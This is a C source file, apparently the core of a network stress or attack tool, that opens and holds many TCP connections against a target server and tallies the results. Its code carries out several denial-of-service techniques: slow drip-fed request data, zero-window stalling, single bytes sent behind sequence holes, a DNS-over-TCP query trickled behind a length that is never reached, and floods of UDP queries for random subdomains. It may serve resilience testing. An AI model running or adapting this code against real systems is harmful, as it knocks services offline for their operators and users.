/* attack.c -- what the connections send, and their answers. */
#include "attack.h"

#include <stdio.h>
#include <time.h>

enum {
    PORT_FIRST = 1024,
    PORT_LAST = 65000,
    TICK_MS = 2,
    MUTE_TICK_MS = 100,
    SEGMENTS_MAX = 1000, /* taken per round of the clock hand */
    SYN_TRIES = 3
};

#define SECOND_NS 1000000000ull

uint64_t attack_now_ns(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * SECOND_NS + (uint64_t)now.tv_nsec;
}

/* Marsaglia, "Xorshift RNGs", 2003. */
static uint32_t random32(struct attacker *attacker)
{
    uint64_t x = attacker->random;

    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    attacker->random = x;
    return (uint32_t)(x >> 32);
}

static void allow(struct allowance *allowance, double seconds)
{
    const double most = allowance->rate > 10 ? allowance->rate / 10 : 1;

    allowance->left += allowance->rate * seconds;
    if (allowance->left > most)
        allowance->left = most;
}

/* ---- Segments out --------------------------------------------------------------------------- */

static uint32_t index_of(const struct attacker *attacker, const struct connection *connection)
{
    return (uint32_t)(connection - attacker->connections);
}

static uint32_t ip_of(const struct attacker *attacker, const struct connection *connection)
{
    return attacker->wire.first + index_of(attacker, connection) % attacker->addresses;
}

static uint16_t port_of(const struct attacker *attacker, const struct connection *connection)
{
    const uint32_t slot = index_of(attacker, connection) / attacker->addresses;
    const uint32_t rounds = (PORT_LAST - PORT_FIRST) / attacker->slots;

    return (uint16_t)(PORT_FIRST + slot + attacker->slots * (connection->ports % rounds));
}

static void say(struct attacker *attacker, const struct connection *connection, uint8_t flags,
                uint32_t seq, const uint8_t *data, uint32_t len)
{
    wire_send(&attacker->wire,
              &(struct segment){.ip = ip_of(attacker, connection),
                                .port = port_of(attacker, connection),
                                .flags = flags,
                                .window = connection->shut ? 0 : attacker->play->window,
                                .seq = seq,
                                .ack = flags & TCP_ACK ? connection->rcv_nxt : 0,
                                .data = data,
                                .len = len});
    attacker->frames.left--;
}

static void acknowledge(struct attacker *attacker, const struct connection *connection)
{
    if (attacker->frames.left >
        -attacker->frames.rate / 4) /* answers may exceed the rate a little */
        say(attacker, connection, TCP_ACK, connection->nxt, NULL, 0);
}

/* Ends the connection from the attacker's side; another one takes its place soon. */
static void forget(struct attacker *attacker, struct connection *connection)
{
    *connection = (struct connection){.ports = connection->ports + 1,
                                      .due_ns = attacker->now_ns + SECOND_NS / 5};
}

static void open_one(struct attacker *attacker, struct connection *connection)
{
    if (attacker->now_ns < connection->due_ns || attacker->opens.left < 1)
        return;
    if (connection->tries++ == SYN_TRIES) {
        forget(attacker, connection);
        return;
    }
    if (connection->phase == PHASE_CLOSED)
        connection->iss = connection->una = random32(attacker);
    connection->phase = PHASE_ASKED;
    connection->nxt = connection->iss + 1;
    connection->due_ns = attacker->now_ns + SECOND_NS;
    attacker->opens.left--;
    say(attacker, connection, TCP_SYN, connection->iss, NULL, 0);
}

/* ---- The data of a play --------------------------------------------------------------------- */

/* The number of bytes that a connection has to send; dripped bytes come every two seconds. */
static uint32_t data_len(const struct attacker *attacker, const struct connection *connection)
{
    const struct service *service = attacker->service;
    const uint64_t age_s = (attacker->now_ns - connection->opened_ns) / SECOND_NS;

    if (attacker->play->data == DATA_BEGIN)
        return service->begin_len + (uint32_t)(age_s / 2 * 2) * attacker->play->drip_bytes_per_s;
    return attacker->play->data == DATA_ASK         ? service->ask_len * service->asks
           : attacker->play->data == DATA_PIPELINED ? service->small_len * service->smalls
                                                    : 0;
}

static bool is_silent(const struct attacker *attacker, const struct connection *connection)
{
    const bool asked = connection->nxt - connection->iss > data_len(attacker, connection);

    return attacker->play->silent || (attacker->play->one_in_four_falls_silent && asked &&
                                      index_of(attacker, connection) % 4 == 3);
}

/* Sends the next segment of the data within the server's window; after a second without an
 * acknowledgment it goes back. */
static void send_data(struct attacker *attacker, struct connection *connection)
{
    const bool pipelined = attacker->play->data == DATA_PIPELINED;
    const struct service *service = attacker->service;
    const bool begins = attacker->play->data == DATA_BEGIN;
    const char *unit = begins ? service->begin : pipelined ? service->small : service->ask;
    const uint32_t unit_len = begins      ? service->begin_len
                              : pipelined ? service->small_len
                                          : service->ask_len;
    uint32_t at, len, room;

    if (connection->una == connection->nxt)
        connection->due_ns = attacker->now_ns + SECOND_NS;
    else if (attacker->now_ns > connection->due_ns && connection->wnd > 0) {
        connection->nxt = connection->una;
        connection->due_ns = attacker->now_ns + SECOND_NS;
    }
    at = connection->nxt - connection->iss - 1;
    room = connection->una + connection->wnd - connection->nxt;
    len = data_len(attacker, connection) - at;
    if (room > UINT16_MAX || len > INT32_MAX) /* the window has shrunk */
        return;
    len = len < room ? len : room;
    len = len < TCP_MSS ? len : TCP_MSS;
    if (pipelined && len > service->segment_bytes)
        len = service->segment_bytes;
    if (len == 0)
        return;
    for (uint32_t i = 0; i < len; i++)
        attacker->data[i] = begins && at + i >= unit_len ? 'x' : (uint8_t)unit[(at + i) % unit_len];
    connection->nxt += len;
    say(attacker, connection, TCP_ACK | TCP_PSH, connection->nxt - len, attacker->data, len);
}

/* Sends one byte behind a hole. After the last one the round begins again, because some may
 * be lost. */
static void send_single(struct attacker *attacker, struct connection *connection)
{
    static const uint8_t byte = 'z';

    if (connection->single == attacker->play->single_bytes) {
        if (attacker->now_ns < connection->due_ns)
            return;
        connection->single = 0;
    }
    connection->single++;
    connection->due_ns = attacker->now_ns + 5 * SECOND_NS;
    say(attacker, connection, TCP_ACK | TCP_PSH, connection->nxt + connection->single, &byte, 1);
}

/* Sends the next byte of a query, behind a length that is never reached; again if it was lost. */
static void trickle(struct attacker *attacker, struct connection *connection)
{
    uint8_t byte;

    if (attacker->now_ns < connection->due_ns)
        return;
    connection->nxt = connection->una;
    byte = connection->nxt - connection->iss == 1 ? 1 : 0; /* 256 bytes and more */
    connection->nxt++;
    connection->due_ns = attacker->now_ns + SECOND_NS;
    say(attacker, connection, TCP_ACK | TCP_PSH, connection->nxt - 1, &byte, 1);
}

/* Sends a question of RFC 1035 4.1 by UDP, for a name that was not asked for before. */
static void ask_by_udp(struct attacker *attacker, const struct connection *connection)
{
    static uint8_t query[] = "\0\0\1\0\0\1\0\0\0\0\0\0\20bad.............\7example\0\0\1\0";
    static const uint32_t name_at = 16, letters = 13;

    query[0] = (uint8_t)random32(attacker);
    for (uint32_t i = 0; i < letters; i++)
        query[name_at + i] = (uint8_t)('a' + random32(attacker) % 26);
    query[sizeof query - 1] = 1; /* IN */
    wire_send_datagram(&attacker->wire, ip_of(attacker, connection),
                       (uint16_t)(PORT_FIRST + random32(attacker) % (PORT_LAST - PORT_FIRST)),
                       query, sizeof query);
    attacker->frames.left--;
}

/* The act of one connection when the clock hand reaches it. */
static void act(struct attacker *attacker, struct connection *connection)
{
    const struct play *play = attacker->play;

    if (play->asks_by_udp)
        ask_by_udp(attacker, connection);
    else if (connection->phase != PHASE_OPEN)
        open_one(attacker, connection);
    else if (attacker->stays_ns > 0 &&
             attacker->now_ns - connection->opened_ns > attacker->stays_ns)
        forget(attacker, connection);
    else if (play->trickles)
        trickle(attacker, connection);
    else if (play->single_bytes)
        send_single(attacker, connection);
    else if (data_len(attacker, connection) > 0 && !is_silent(attacker, connection))
        send_data(attacker, connection);
}

/* ---- Segments in ---------------------------------------------------------------------------- */

static struct connection *connection_of(struct attacker *attacker, const struct segment *segment)
{
    const uint32_t slot = (uint32_t)(segment->port - PORT_FIRST) % attacker->slots;
    const uint32_t i = slot * attacker->addresses + segment->ip - attacker->wire.first;
    struct connection *connection = &attacker->connections[i];

    if (segment->port < PORT_FIRST || segment->ip - attacker->wire.first >= attacker->addresses ||
        i >= attacker->count || port_of(attacker, connection) != segment->port)
        return NULL;
    return connection;
}

/* Handles a SYN,ACK: the connection opens, or our ACK was lost. */
static void take_open(struct attacker *attacker, struct connection *connection,
                      const struct segment *segment)
{
    if (segment->ack != connection->iss + 1)
        return;
    if (connection->phase == PHASE_ASKED) {
        connection->phase = PHASE_OPEN;
        connection->opened_ns = attacker->now_ns;
        connection->rcv_nxt = segment->seq + 1;
        connection->una = connection->nxt;
        connection->wnd = segment->window;
        attacker->opened++;
    }
    acknowledge(attacker, connection);
}

/* Handles data, a FIN, a probe, or a pure acknowledgment, which gets no answer. */
static void take_data(struct attacker *attacker, struct connection *connection,
                      const struct segment *segment)
{
    const uint32_t already = connection->rcv_nxt - segment->seq;
    const bool is_next = already <= segment->len;

    if (segment->len == 0 && !(segment->flags & TCP_FIN) && already == 0)
        return;
    attacker->probes++;
    if (is_next && segment->len > already && !connection->shut && attacker->play->window > 0)
        connection->rcv_nxt = segment->seq + segment->len;
    else if (is_next && segment->len > already && attacker->play->takes_one)
        connection->rcv_nxt++;
    if (attacker->play->data != DATA_NONE)
        connection->shut = true;
    if ((segment->flags & TCP_FIN) && connection->rcv_nxt == segment->seq + segment->len) {
        connection->rcv_nxt++;
        attacker->ends++;
        acknowledge(attacker, connection);
        forget(attacker, connection);
        return;
    }
    acknowledge(attacker, connection);
}

static void take(struct attacker *attacker, const struct segment *segment)
{
    struct connection *connection = connection_of(attacker, segment);

    if (!connection || connection->phase == PHASE_CLOSED)
        return;
    if (segment->flags & TCP_RST) {
        attacker->resets++;
        forget(attacker, connection);
    } else if (segment->flags & TCP_SYN) {
        take_open(attacker, connection, segment);
    } else if (connection->phase == PHASE_OPEN && !is_silent(attacker, connection)) {
        if (segment->ack - connection->una <= connection->nxt - connection->una) {
            if (segment->ack != connection->una)
                connection->due_ns = attacker->now_ns + SECOND_NS;
            connection->una = segment->ack;
            connection->wnd = segment->window;
        }
        take_data(attacker, connection, segment);
    }
}

/* ---- The attack ----------------------------------------------------------------------------- */

void attack_until(struct attacker *attacker, uint64_t end_ns, bool mute,
                  volatile sig_atomic_t *stop)
{
    uint64_t then = attack_now_ns();
    struct segment segment;

    for (;;) {
        attacker->now_ns = attack_now_ns();
        if (attacker->now_ns >= end_ns || *stop)
            return;
        allow(&attacker->frames, (double)(attacker->now_ns - then) / 1e9);
        allow(&attacker->opens, (double)(attacker->now_ns - then) / 1e9);
        then = attacker->now_ns;
        for (int i = 0; i < SEGMENTS_MAX && wire_receive(&attacker->wire, &segment); i++)
            if (!mute)
                take(attacker, &segment);
        for (uint32_t i = 0; i < attacker->count && attacker->frames.left >= 1 && !mute; i++) {
            attacker->hand = (attacker->hand + 1) % attacker->count;
            act(attacker, &attacker->connections[attacker->hand]);
        }
        wire_wait(&attacker->wire, mute ? MUTE_TICK_MS : TICK_MS);
    }
}

void attack_report(const struct attacker *attacker)
{
    uint32_t open = 0;

    for (uint32_t i = 0; i < attacker->count; i++)
        open += attacker->connections[i].phase == PHASE_OPEN;
    printf("open             %u\nopened           %llu\nresets           %llu\n"
           "ends             %llu\nprobes           %llu\nframes_sent      %llu\n"
           "frames_refused   %llu\nframes_received  %llu\n",
           open, (unsigned long long)attacker->opened, (unsigned long long)attacker->resets,
           (unsigned long long)attacker->ends, (unsigned long long)attacker->probes,
           (unsigned long long)attacker->wire.frames_sent,
           (unsigned long long)attacker->wire.frames_refused,
           (unsigned long long)attacker->wire.frames_received);
}
